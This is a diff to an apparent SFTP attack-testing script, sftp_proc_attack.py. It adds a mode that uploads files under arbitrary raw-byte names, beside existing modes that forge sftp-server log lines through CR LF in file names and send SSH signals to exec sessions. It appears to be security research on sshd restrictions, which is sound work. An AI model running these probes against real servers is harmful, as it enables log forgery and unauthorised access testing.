@@ -10,6 +10,9 @@
     sftp_proc_attack.py PORT USER KEYFILE - open NAME_HEX
         Opens the file named by the hex bytes NAME_HEX for reading (a name that may hold CR LF
         and forged log lines; sftp-server logs the open even when it fails).
+    sftp_proc_attack.py PORT USER KEYFILE - put NAME_HEX...
+        Uploads five bytes to each name (hex-encoded bytes, relative to the home directory),
+        making the directories above it first.
     sftp_proc_attack.py PORT USER KEYFILE - signal COMMAND SIGNAL
         Runs COMMAND (the allowed one) as an exec request, not the subsystem, and sends an SSH
         `signal` request with SIGNAL (KILL, USR1, ...) to it, which sshd allows for exec sessions.
@@ -96,9 +99,23 @@ def main():
         client.close()
         return
     sftp = client.open_sftp()
-    if mode != "open":
+    if mode not in ("open", "put"):
         step("list /proc", lambda: len(sftp.listdir("/proc")))
-    if mode == "open":
+    if mode == "put":
+        for name_hex in sys.argv[6:]:
+            # Bytes, not str: paramiko sends them as they are, so names need not be UTF-8.
+            name = bytes.fromhex(name_hex)
+            parts = name.split(b"/")
+            for i in range(1, len(parts)):
+                try:
+                    sftp.mkdir(b"/".join(parts[:i]))
+                except IOError:
+                    pass
+            def put(name=name):
+                with sftp.open(name, "wb") as f:
+                    f.write(b"12345")
+            step("put " + name_hex[:16], put)
+    elif mode == "open":
         name = bytes.fromhex(sys.argv[6])
         step("open the name", lambda: sftp.open(name.decode("utf-8", "surrogateescape"), "rb").close())
     elif mode == "wrapper":
